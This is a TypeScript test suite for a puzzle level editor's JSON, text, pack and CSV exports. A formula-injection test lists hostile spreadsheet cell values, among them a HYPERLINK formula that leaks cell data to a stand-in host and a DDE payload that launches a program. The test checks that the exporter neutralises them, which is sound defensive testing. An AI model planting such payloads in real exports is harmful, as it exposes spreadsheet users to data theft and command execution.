/**
 * The levels JSON, text and CSV exports read back by independent means: a
 * CSV parser written here (RFC 4180), `JSON.parse` with the start cell found
 * by searching the rows, the text parser, and the naive solver's features
 * for the values the CSV should carry.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { naiveAnalyze } from '../../../test/naive/naiveSolver';
import { parseCsv } from '../../../test/support/exportReaders';
import { parseLevels } from '../level/format';
import { createPack, exportPack, importPack } from '../pack/pack';
import type { LevelPack, PackLevel } from '../pack/schema';
import { EXPORT_FORMAT_INFO, exportPackAs, TEXT_EXPORT_FORMATS } from './formats';

const level = (id: string, name: string, rows: string[], difficulty: number | null, features: Record<string, number | null> = {}): PackLevel => ({
  id, name, rows, difficulty, features, source: { generator: 'editor', seed: null, temperature: null, model: null },
});

const corridor = ['C..#', '.#..', '....'];
const unsolvable = ['#.#', '.C.', '#.#'];
const big = ['..........', '....#.....', '..C.......', '.......#..', '..........'];

/** Features as a pack holds them: JSON null for infinite values. */
const packFeatures = (rows: string[]): Record<string, number | null> =>
  Object.fromEntries(Object.entries(naiveAnalyze(rows).features).map(([k, v]) => [k, Number.isFinite(v) ? (v as number) : null]));

const sample: LevelPack = {
  ...createPack('Sample, "quoted"', [
    level('a', 'plain', corridor, 12.5, packFeatures(corridor)),
    level('b,1', 'has "quotes", and\nnew line', unsolvable, null, packFeatures(unsolvable)),
    level('c', 'never analysed', big, null),
  ]),
  difficultyModel: 'default',
};

const text = (format: (typeof TEXT_EXPORT_FORMATS)[number], pack = sample): string => {
  const r = exportPackAs(pack, format);
  if (!r.ok) throw new Error(r.error);
  return r.value;
};

describe('levels JSON for game code', () => {
  it('one object per level: size from the rows, the start where the C is, difficulty as the pack holds it', () => {
    const file = JSON.parse(text('json')) as { format: string; version: number; name: string; difficultyModel: string; levels: Record<string, unknown>[] };
    expect(file).toMatchObject({ format: 'longcat-levels', version: 1, name: sample.name, difficultyModel: 'default' });
    expect(file.levels).toHaveLength(3);
    file.levels.forEach((l, i) => {
      const src = sample.levels[i]!;
      const y = src.rows.findIndex((r) => r.includes('C'));
      expect(l).toEqual({
        index: i + 1, id: src.id, name: src.name, width: src.rows[0]!.length, height: src.rows.length,
        rows: src.rows, start: { x: src.rows[y]!.indexOf('C'), y }, difficulty: src.difficulty,
      });
    });
  });
});

describe('text', () => {
  it('reads back as the same grids with single-line names', () => {
    const r = parseLevels(text('text'));
    if (!r.ok) throw new Error(r.error.message);
    expect(r.value.map((l) => l.name)).toEqual(['plain', 'has "quotes", and new line', 'never analysed']);
    const rows = r.value.map((l) => Array.from({ length: l.height }, (_, y) => Array.from({ length: l.width }, (_, x) => (y * l.width + x === l.head ? 'C' : l.cells[y * l.width + x] ? '#' : '.')).join('')));
    expect(rows).toEqual(sample.levels.map((l) => l.rows));
  });

  it('an empty pack is an empty file', () => {
    expect(text('text', createPack('empty', []))).toBe('');
  });
});

describe('pack JSON', () => {
  it('is the pack file, which imports back to the same pack', () => {
    expect(text('pack')).toBe(exportPack(sample));
    const back = importPack(text('pack'));
    expect(back.ok && back.value.pack).toEqual(sample);
  });
});

describe('features CSV', () => {
  it('a header row, one record per level, RFC 4180 quoting, empty fields for missing and infinite values', () => {
    const records = parseCsv(text('csv'));
    const [head, ...rows] = records;
    expect(head).toEqual(['index', 'id', 'name', 'width', 'height', 'difficulty', 'band',
      'nStates', 'size', 'nBranches', 'nSolutions', 'nFails', 'shortestSolutionLength', 'nSolutionBranches',
      'nNonDead', 'nIndeterminate', 'nIndeterminateBranches', 'solutionPaths', 'expectedDecisions', 'expectedMoves', 'level']);
    expect(rows).toHaveLength(3);
    const column = (name: string) => head!.indexOf(name);
    const [a, b, c] = rows as [string[], string[], string[]];
    expect(a.slice(0, 7)).toEqual(['1', 'a', 'plain', '4', '3', '12.5', 'trivial']);
    expect(b.slice(0, 7)).toEqual(['2', 'b,1', 'has "quotes", and\nnew line', '3', '3', '', '']);
    expect(c.slice(0, 7)).toEqual(['3', 'c', 'never analysed', '10', '5', '', '']);
    for (const [record, rowsOf] of [[a, corridor], [b, unsolvable]] as const) {
      const naive = naiveAnalyze([...rowsOf]).features as unknown as Record<string, number>;
      for (const name of ['nStates', 'nSolutions', 'nFails', 'solutionPaths', 'nIndeterminateBranches']) expect(Number(record[column(name)])).toBe(naive[name]);
      expect(record[column('level')]).toBe(rowsOf.join('/'));
    }
    expect(b[column('expectedMoves')]).toBe(''); // infinite: unsolvable
    expect(Number(a[column('expectedMoves')])).toBeCloseTo(naiveAnalyze(corridor).features.expectedMoves, 9);
    expect(c.slice(7, -1).every((f) => f === '')).toBe(true);
  });

  /**
   * The rule of csv.ts's module comment, stated here on its own: a text cell
   * that begins with tab, CR or NUL, or whose first character past leading
   * whitespace and control characters is = + - @ (or a full-width form), is
   * read back with a ' in front.
   */
  const shown = (text: string): string => {
    if (text !== '' && '\t\r\0'.includes(text.charAt(0))) return `'${text}`;
    const skipped = (c: string): boolean => c.trim() === '' || c.charCodeAt(0) < 0x20 || c === '\x7f' || c === '\u200b' || c === '\ufeff';
    const first = [...text].find((c) => !skipped(c)) ?? '';
    return first !== '' && '=+-@\uff1d\uff0b\uff0d\uff20'.includes(first) ? `'${text}` : text;
  };

  it('any names and ids survive the round trip through a CSV reader (formula starts behind a quote mark)', () => {
    const names = fc.string({ unit: 'binary', maxLength: 60 });
    fc.assert(
      fc.property(fc.array(fc.tuple(names, names), { minLength: 1, maxLength: 5 }), (pairs) => {
        const pack = createPack('p', pairs.map(([id, name], i) => level(`${i}:${id}`, name, corridor, i)));
        const records = parseCsv(text('csv', pack));
        expect(records.slice(1).map((r) => [r[1], r[2], r[5]])).toEqual(pairs.map(([id, name], i) => [`${i}:${id}`, shown(name), String(i)]));
      }),
      // CI's seed 1095521491 found a name that is a lone NUL: kept as a regression case.
      { numRuns: 80, examples: [[[['', '\u0000'], ['', '']]]] },
    );
  });

  it('formula injection (OWASP): a cell that begins with = + - @ tab or CR is written as quoted text behind a quote mark; numbers stay numbers', () => {
    const attacks = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '=1,2'];
    const pack = createPack('p', [
      ...attacks.map((name, i) => level(attacks[(i + 1) % attacks.length]!, name, corridor, i)),
      // Harmless starts stay as they were, and a negative number is written bare.
      level('ok', 'a=1 and -1', corridor, -3.5, { nStates: -1 }),
    ]);
    const csv = text('csv', pack);
    const records = parseCsv(csv);
    attacks.forEach((name, i) => {
      const [, id, cellName] = records[i + 1]!;
      expect(cellName).toBe(`'${name}`);
      expect(id).toBe(`'${attacks[(i + 1) % attacks.length]!}`);
    });
    // On the wire every raw cell starts with a quote, never with a formula character.
    csv.split('\r\n').slice(1, attacks.length + 1).forEach((line, i) => expect(line.startsWith(`${i + 1},"'`), line).toBe(true));
    const last = records[attacks.length + 1]!;
    const head = records[0]!;
    expect(last[2]).toBe('a=1 and -1');
    expect(last[head.indexOf('difficulty')]).toBe('-3.5');
    expect(last[head.indexOf('nStates')]).toBe('-1');
    expect(csv).toContain(',-3.5,');
  });
});

describe('the format table', () => {
  it('gives every format a label, an extension and a MIME type; only the Arduboy header refuses this pack', () => {
    for (const f of TEXT_EXPORT_FORMATS) {
      expect(EXPORT_FORMAT_INFO[f].extension).toMatch(/^\.[a-z.-]+$/);
      expect(exportPackAs(sample, f).ok).toBe(f !== 'arduboy');
    }
  });
});
